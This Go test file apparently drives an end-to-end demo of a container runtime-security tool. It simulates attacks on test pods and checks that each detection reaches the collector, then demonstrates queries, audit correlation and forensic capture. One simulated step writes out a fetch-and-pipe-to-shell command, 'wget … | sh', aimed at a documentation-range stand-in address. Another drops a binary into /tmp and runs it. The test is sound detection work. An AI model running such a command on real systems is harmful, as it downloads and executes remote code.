// Package demo is `make demo`: Loupe end to end on this machine, narrated.
// It runs only when LOUPE_DEMO=1 (scripts/demo.sh sets it), and it is also a
// test: every step checks that its finding reached the collector.
package demo

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"google.golang.org/protobuf/encoding/protojson"

	loupev1 "github.com/loupe-dev/loupe/api/v1"
	"github.com/loupe-dev/loupe/collector"
	"github.com/loupe-dev/loupe/collector/audit"
	"github.com/loupe-dev/loupe/collector/audit/audittest"
	"github.com/loupe-dev/loupe/internal/testenv"
	"github.com/loupe-dev/loupe/internal/tlsutil"
)

func TestMain(m *testing.M) { os.Exit(testenv.Main(m)) }

func say(format string, args ...any) { fmt.Printf("\n\033[1m== "+format+"\033[0m\n", args...) }

func TestDemo(t *testing.T) {
	if os.Getenv("LOUPE_DEMO") != "1" {
		t.Skip("the demo runs with `make demo` (LOUPE_DEMO=1)")
	}
	bin, err := filepath.Abs("../../bin")
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	say("Starting a private containerd (CRI enabled) and importing locally built images")
	env := testenv.StartContainerd(t)
	distroless, debian := env.Image(t, testenv.Distroless), env.Image(t, testenv.DebianLike)
	fmt.Printf("containerd socket %s; images %s (no shell, no package manager) and %s (has /bin/sh)\n", env.Address(), distroless, debian)

	say("Creating pods through CRI, as kubelet does")
	api := env.RunPod(t, testenv.PodConfig{Name: "api-7d9f8b6c5d-x2k4p", Namespace: "payments"})
	app := api.Start(t, testenv.ContainerConfig{Name: "api", Image: distroless})
	web := env.RunPod(t, testenv.PodConfig{Name: "web-5c6d7e8f9-abcde", Namespace: "frontend"})
	sh := web.Start(t, testenv.ContainerConfig{Name: "nginx", Image: debian})
	fmt.Printf("payments/%s (distroless, pid %d) and frontend/%s (debian-like, pid %d)\n", api.Name(), app.PID(t), web.Name(), sh.PID(t))

	grpcAddr, httpAddr := testenv.FreeAddr(t), testenv.FreeAddr(t)
	// The default rules plus captures allowed in the payments namespace.
	rules := filepath.Join(t.TempDir(), "rules.yaml")
	if err := os.WriteFile(rules, []byte("version: 1\nrules: []\ncapture:\n  enabled: true\n  namespaces: [payments]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// The web console, with one random token whose sha256 is the token file.
	consoleAddr, token := consoleAddr(t), randomToken(t)
	tokens := filepath.Join(t.TempDir(), "console-tokens")
	sum := sha256.Sum256([]byte(token))
	if err := os.WriteFile(tokens, []byte(hex.EncodeToString(sum[:])+"  demo\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	say("Starting `loupe run` (agent with eBPF exec tracer + embedded collector, SQLite, web console)")
	run := exec.Command(filepath.Join(bin, "loupe"), "run", "--node-name", "demo-node",
		"--containerd-socket", env.Address(), "--containerd-state", env.State(),
		"--state-dir", t.TempDir(), "--grpc-listen", grpcAddr, "--http-listen", httpAddr, "--rules", rules,
		"--console-listen", consoleAddr, "--console-token-file", tokens)
	logf, err := os.Create(filepath.Join(t.TempDir(), "loupe-run.log"))
	if err != nil {
		t.Fatal(err)
	}
	run.Stdout, run.Stderr = logf, logf
	if err := run.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		run.Process.Signal(syscall.SIGTERM)
		run.Wait()
		if t.Failed() {
			b, _ := os.ReadFile(logf.Name())
			t.Logf("loupe run output:\n%s", b)
		}
	})
	testenv.WaitHTTP200(t, "http://"+httpAddr+"/readyz", 30*time.Second, nil)
	fmt.Println(strings.TrimSpace(testenv.HTTPGet(t, "http://"+httpAddr+"/readyz")))
	q := &querier{t: t, addr: grpcAddr}

	say("1. `kubectl exec api -- /bin/sh` against the distroless pod (CRI ExecSync)")
	execAt := time.Now()
	_, err = app.Exec(t, []string{"/bin/sh", "-c", "id"}, 10*time.Second)
	fmt.Printf("kubectl would print: %v\n", err)
	q.wait(loupev1.Kind_KIND_RUNTIME_EXEC_FAILED, app.ID())

	say("2. The application process itself calls execve(\"/bin/sh\") (what an RCE payload does)")
	app.RequestSpawn(t, "/bin/sh", "-c", "wget -qO- http://198.51.100.7/x | sh")
	q.wait(loupev1.Kind_KIND_EXEC_FAILED, app.ID())

	say("3. A binary dropped into the container's filesystem is executed (drift)")
	root := fmt.Sprintf("/proc/%d/root", app.PID(t))
	payload, err := os.ReadFile(root + testenv.Distroless.AppPath())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(root+"/tmp/.x", payload, 0o755); err != nil {
		t.Fatal(err)
	}
	app.RequestSpawn(t, "/tmp/.x", "exit")
	q.wait(loupev1.Kind_KIND_DRIFT_EXEC, app.ID())
	app.RequestStart(t, "/tmp/.x") // and it stays, a second process beside the app

	say("4. A shell in the debian-like pod: `kubectl exec web -- /bin/sh -c id`")
	res, err := sh.Exec(t, []string{"/bin/sh", "-c", "id"}, 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Printf("output: %s", res.Stdout)
	q.wait(loupev1.Kind_KIND_SHELL_EXEC, sh.ID())

	say("What a SOC analyst sees:  loupe query --since 10m --severity medium")
	cli(t, bin, "query", "--collector", grpcAddr, "--insecure", "--since", "10m", "--severity", "medium")
	say("Shell attempts on distroless pods:  loupe query --kind exec_failed --kind runtime_exec_failed")
	cli(t, bin, "query", "--collector", grpcAddr, "--insecure", "--kind", "exec_failed", "--kind", "runtime_exec_failed")
	say("One finding as JSON:  loupe query --kind drift_exec -o json")
	cli(t, bin, "query", "--collector", grpcAddr, "--insecure", "--kind", "drift_exec", "-o", "json")
	say("Who ran step 1? The API server's audit event of that kubectl exec (the demo has no API server: it is\n" +
		"replayed with `loupe ingest`; on a cluster it reaches the collector's --audit-listen webhook)")
	ev := audittest.Exec(audittest.Alice, execAt, "payments", api.Name(), app.Name(), "/bin/sh", "-c", "id")
	line, err := protojson.MarshalOptions{UseProtoNames: true}.Marshal(audit.Finding(&ev))
	if err != nil {
		t.Fatal(err)
	}
	evFile := filepath.Join(t.TempDir(), "audit.jsonl")
	if err := os.WriteFile(evFile, append(line, '\n'), 0o600); err != nil {
		t.Fatal(err)
	}
	cli(t, bin, "ingest", evFile, "--collector", grpcAddr, "--insecure")
	say("Everything alice did, and what it caused on the node:  loupe query --user alice@corp.example")
	who := cliOut(t, bin, "query", "--collector", grpcAddr, "--insecure", "--user", "alice@corp.example")
	fmt.Print(who)
	if !strings.Contains(who, "K8S_EXEC") || !strings.Contains(who, "RUNTIME_EXEC_FAILED") {
		t.Fatalf("loupe query --user does not join the audit event to the node's finding:\n%s", who)
	}
	say("Agents:  loupe nodes")
	cli(t, bin, "nodes", "--collector", grpcAddr, "--insecure")
	say("Agent metrics (excerpt of http://%s/metrics)", httpAddr)
	for _, l := range strings.Split(testenv.HTTPGet(t, "http://"+httpAddr+"/metrics"), "\n") {
		for _, p := range []string{"loupe_agent_containers ", "loupe_agent_findings_total{", "loupe_agent_exec_events_total",
			"loupe_agent_bpf_events_lost_total", "loupe_agent_tracer_info", "loupe_agent_collector_connected", "loupe_agent_layer_cache_hits_total", "loupe_agent_spool_findings"} {
			if strings.HasPrefix(l, p) {
				fmt.Println(l)
			}
		}
	}
	say("5. Evidence of the attacked pod, taken from the host (no exec, no stop):  loupe capture --pod payments/%s --reason … --save api.tar.gz", api.Name())
	bundle := filepath.Join(t.TempDir(), "api.tar.gz")
	cli(t, bin, "capture", "--collector", grpcAddr, "--insecure", "--pod", "payments/"+api.Name(),
		"--reason", "INC-4711: shell attempts and a dropped binary on api", "--save", bundle)
	say("The bundle, checked offline:  loupe capture verify api.tar.gz")
	cli(t, bin, "capture", "verify", bundle)
	say("The SOC console: http://%s/  (token %s)", consoleAddr, token)
	overview := consoleGet(t, "http://"+consoleAddr+"/", token)
	if !strings.Contains(overview, "demo-node") || !strings.Contains(overview, api.Name()) {
		t.Fatalf("the console overview does not show the node and the attacked pod:\n%s", overview)
	}
	fmt.Printf("overview shows node demo-node and payments/%s; pod timeline: http://%s/timeline?namespace=payments&pod=%s\n", api.Name(), consoleAddr, api.Name())
	if os.Getenv("LOUPE_DEMO_KEEP") == "1" {
		fmt.Println("LOUPE_DEMO_KEEP=1: everything stays up; sign in with the token above, press Ctrl-C to clean up")
		ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
		<-ctx.Done()
		stop()
	} else {
		fmt.Println("(LOUPE_DEMO_KEEP=1 make demo keeps the pods, the agent and the console up until Ctrl-C)")
	}
	say("Done in %s; cleaning up (containers, pods, containerd)", time.Since(start).Round(time.Second))
}

// consoleAddr is 127.0.0.1:8080 when it is free (an address easy to type),
// else any free loopback port.
func consoleAddr(t *testing.T) string {
	if l, err := net.Listen("tcp", "127.0.0.1:8080"); err == nil {
		l.Close()
		return "127.0.0.1:8080"
	}
	return testenv.FreeAddr(t)
}

func randomToken(t *testing.T) string {
	b := make([]byte, 16)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}

// consoleGet fetches a console page with the bearer token; it fails on any status but 200.
func consoleGet(t *testing.T, url, token string) string {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %d %v", url, resp.StatusCode, err)
	}
	return string(b)
}

type querier struct {
	t    *testing.T
	addr string
}

// wait polls the collector until a finding of kind for container id is stored.
func (q *querier) wait(kind loupev1.Kind, id string) {
	q.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	conn, err := collector.Dial(ctx, q.addr, tlsutil.ClientOptions{Insecure: true})
	if err != nil {
		q.t.Fatal(err)
	}
	defer conn.Close()
	start := time.Now()
	for ctx.Err() == nil {
		stream, err := loupev1.NewCollectorClient(conn).Query(ctx, &loupev1.QueryRequest{Kinds: []loupev1.Kind{kind}, ContainerId: id})
		if err == nil {
			if r, err := stream.Recv(); err == nil && len(r.GetFindings()) > 0 {
				f := r.GetFindings()[0]
				fmt.Printf("→ %s %s, queryable %s after the action: %s\n", f.GetSeverity().ShortName(), f.GetKind().ShortName(),
					time.Since(start).Round(10*time.Millisecond), f.GetSummary())
				return
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
	q.t.Fatalf("no %s finding for container %s within 60s", kind.ShortName(), id)
}

// cliOut runs the loupe CLI and returns its standard output.
func cliOut(t *testing.T, bin string, args ...string) string {
	t.Helper()
	cmd := exec.Command(filepath.Join(bin, "loupe"), args...)
	cmd.Stderr = os.Stdout
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("loupe %v: %v", args, err)
	}
	return string(out)
}

func cli(t *testing.T, bin string, args ...string) {
	t.Helper()
	cmd := exec.Command(filepath.Join(bin, "loupe"), args...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stdout
	if err := cmd.Run(); err != nil {
		t.Fatalf("loupe %v: %v", args, err)
	}
}
